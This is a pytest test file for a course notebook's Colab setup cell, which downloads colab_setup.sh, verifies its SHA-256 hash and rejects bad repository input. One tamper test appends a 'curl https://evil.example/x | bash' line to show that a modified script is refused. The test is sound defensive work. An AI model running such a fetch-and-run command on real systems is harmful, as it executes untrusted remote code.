"""The notebooks' setup cell: on Colab it fetches colab_setup.sh, checks its SHA-256 and runs
it; a script that does not match, or an empty repository field, stops with one line;
elsewhere it does nothing. (tests/test_colab_notebook.py runs a committed notebook's cell
as Colab would, through a real install.)

Runs the cell in a real IPython shell (the `!` line is IPython syntax) with the download
replaced by a fake ``urlopen``, so no network is needed; the script itself runs in bash.
"""

from __future__ import annotations

import hashlib
import urllib.error
import urllib.request

import pytest
from IPython.core.interactiveshell import InteractiveShell

from course_utils.tooling.colab import setup_cell_source

GOOD = 'echo "$COURSE_REPO@$COURSE_REF" > "$RAN_LOG"\n'
GOOD_SHA = hashlib.sha256(GOOD.encode()).hexdigest()
URL = "https://raw.githubusercontent.com/teacher/fork/v2/colab_setup.sh"


def sha(text):
    return hashlib.sha256(text.encode()).hexdigest()


@pytest.fixture
def served(tmp_path, monkeypatch):
    """What the fake download serves (``served["script"]``) and the URLs it was asked for."""
    state = {"script": GOOD, "urls": []}

    class Response:
        def read(self):
            return state["script"].encode()

    def fake_urlopen(url, timeout=None):
        state["urls"].append(url)
        if "error" in state:
            raise state["error"]
        return Response()

    monkeypatch.setattr(urllib.request, "urlopen", fake_urlopen)
    monkeypatch.setenv("RAN_LOG", str(tmp_path / "ran.log"))
    monkeypatch.delenv("COLAB_RELEASE_TAG", raising=False)
    return state


@pytest.fixture
def shell():
    shell = InteractiveShell.instance()
    yield shell
    InteractiveShell.clear_instance()


def run_setup_cell(shell, repo="teacher/fork", ref="v2", sha256=GOOD_SHA):
    return shell.run_cell(setup_cell_source(repo, ref, sha256), silent=True)


def run_typed(shell, repo, ref, sha256=GOOD_SHA):
    """The committed cell after a learner typed ``repo`` and ``ref`` into the form (Colab
    rewrites the value on the ``# @param`` line)."""
    source = setup_cell_source("", "main", sha256)
    source = source.replace('COURSE_REPO = ""', f"COURSE_REPO = {repo!r}", 1)
    source = source.replace('COURSE_REF = "main"', f"COURSE_REF = {ref!r}", 1)
    return shell.run_cell(source, silent=True)


def one_line_error(result):
    assert not result.success
    assert isinstance(result.error_in_exec, RuntimeError)
    message = str(result.error_in_exec)
    assert "\n" not in message
    return message


def test_off_colab_the_cell_does_nothing(shell, served, tmp_path):
    assert run_setup_cell(shell).success
    assert run_setup_cell(shell, "", "main").success
    assert served["urls"] == [] and not (tmp_path / "ran.log").exists()


def test_on_colab_the_cell_runs_the_script_whose_hash_it_carries(
    shell, served, tmp_path, monkeypatch
):
    monkeypatch.setenv("COLAB_RELEASE_TAG", "release-test")
    result = run_setup_cell(shell)
    assert result.success, result.error_in_exec
    assert served["urls"] == [URL]
    assert (tmp_path / "ran.log").read_text().strip() == "teacher/fork@v2"


@pytest.mark.parametrize(
    "tampered",
    [GOOD + "curl https://evil.example/x | bash\n", GOOD.replace("echo", "echo "), ""],
    ids=["appended", "one-byte", "empty"],
)
def test_on_colab_a_tampered_script_is_refused_and_never_runs(
    shell, served, tmp_path, monkeypatch, tampered
):
    monkeypatch.setenv("COLAB_RELEASE_TAG", "release-test")
    served["script"] = tampered
    message = one_line_error(run_setup_cell(shell))
    assert message.startswith(f"Colab setup: refused to run {URL}: its SHA-256 is not SETUP_SHA256")
    assert "colab branch" in message  # where a learner finds a notebook whose fields match
    assert not (tmp_path / "ran.log").exists()


def test_on_colab_an_unconfigured_copy_says_so_in_one_line_and_downloads_nothing(
    shell, served, tmp_path, monkeypatch
):
    monkeypatch.setenv("COLAB_RELEASE_TAG", "release-test")
    message = one_line_error(run_setup_cell(shell, "", "main"))
    assert message.startswith("Colab setup: type the GitHub repository") and "OWNER/NAME" in message
    assert served["urls"] == [] and not (tmp_path / "ran.log").exists()


def test_on_colab_a_failing_setup_stops_the_notebook(shell, served, monkeypatch):
    monkeypatch.setenv("COLAB_RELEASE_TAG", "release-test")
    served["script"] = "echo 'colab_setup.sh: error: boom' >&2; exit 3\n"
    result = run_setup_cell(shell, sha256=sha(served["script"]))
    assert one_line_error(result) == "Colab setup failed: read the messages above"


def test_the_form_explains_itself_above_its_fields():
    lines = setup_cell_source("", "main", GOOD_SHA).splitlines()
    help_lines = [i for i, line in enumerate(lines) if line.startswith("# @markdown ")]
    field = next(i for i, line in enumerate(lines) if line.startswith("COURSE_REPO = "))
    assert help_lines and help_lines[0] < field  # Colab shows it in the form, above
    assert "OWNER/NAME" in lines[help_lines[0]] and "public" in lines[help_lines[0]]


@pytest.mark.parametrize(
    ("typed", "ref", "url"),
    [
        ("teacher/fork", "v2", URL),
        ("  teacher/fork/ ", "v2", URL),
        ("https://github.com/teacher/fork", "v2", URL),
        ("https://github.com/teacher/fork.git", "v2", URL),
        ("github.com/teacher/fork/tree/main", "v2", URL),
        (
            "https://colab.research.google.com/github/teacher/fork/blob/main/notebooks/"
            "02_nvidia_smi_and_monitoring.ipynb#scrollTo=abc",
            "v2",
            URL,
        ),
        ("teacher/fork/blob/main/notebooks/02_nvidia_smi_and_monitoring.ipynb", "v2", URL),
        # with COURSE_REF emptied, the ref in the pasted address
        (
            "https://github.com/teacher/fork/blob/v3/notebooks/01_x.ipynb",
            "",
            URL.replace("v2", "v3"),
        ),
        ("teacher/fork", "", URL.replace("v2", "main")),
    ],
)
def test_on_colab_the_repository_may_be_typed_or_pasted_as_an_address(
    shell, served, monkeypatch, typed, ref, url
):
    monkeypatch.setenv("COLAB_RELEASE_TAG", "release-test")
    result = run_typed(shell, typed, ref)
    assert result.success, result.error_in_exec
    assert served["urls"] == [url]


@pytest.mark.parametrize("typed", ["teacher", "https://gitlab.com/teacher/fork", "a b/c", "x/y/z"])
def test_on_colab_what_is_no_repository_is_refused_in_one_line(shell, served, monkeypatch, typed):
    monkeypatch.setenv("COLAB_RELEASE_TAG", "release-test")
    message = one_line_error(run_typed(shell, typed, "main"))
    assert message.startswith("Colab setup: type the GitHub repository")
    assert served["urls"] == []


def test_on_colab_a_404_says_what_to_check_in_one_line_without_a_traceback(
    shell, served, tmp_path, monkeypatch, capsys
):
    monkeypatch.setenv("COLAB_RELEASE_TAG", "release-test")
    served["error"] = urllib.error.HTTPError(URL, 404, "Not Found", None, None)
    result = run_typed(shell, "teacher/frok", "v2")
    message = one_line_error(result)
    wrong = URL.replace("fork", "frok")
    assert message.startswith(f"Colab setup: no colab_setup.sh at {wrong} (HTTP 404)")
    for hint in ("COURSE_REPO", "COURSE_REF", "private", "public"):
        assert hint in message
    # what IPython shows (Colab and JupyterLab alike): that one line, no urllib frames
    assert result.error_in_exec._render_traceback_() == [message]
    shell.showtraceback((type(result.error_in_exec), result.error_in_exec, None))
    shown = capsys.readouterr()
    assert "urllib" not in shown.out + shown.err and message in shown.out + shown.err
    assert not (tmp_path / "ran.log").exists()


def test_on_colab_no_network_says_so_in_one_line(shell, served, monkeypatch):
    monkeypatch.setenv("COLAB_RELEASE_TAG", "release-test")
    served["error"] = urllib.error.URLError("Temporary failure in name resolution")
    message = one_line_error(run_setup_cell(shell))
    assert message.startswith(f"Colab setup: could not download {URL}")
    assert "internet" in message
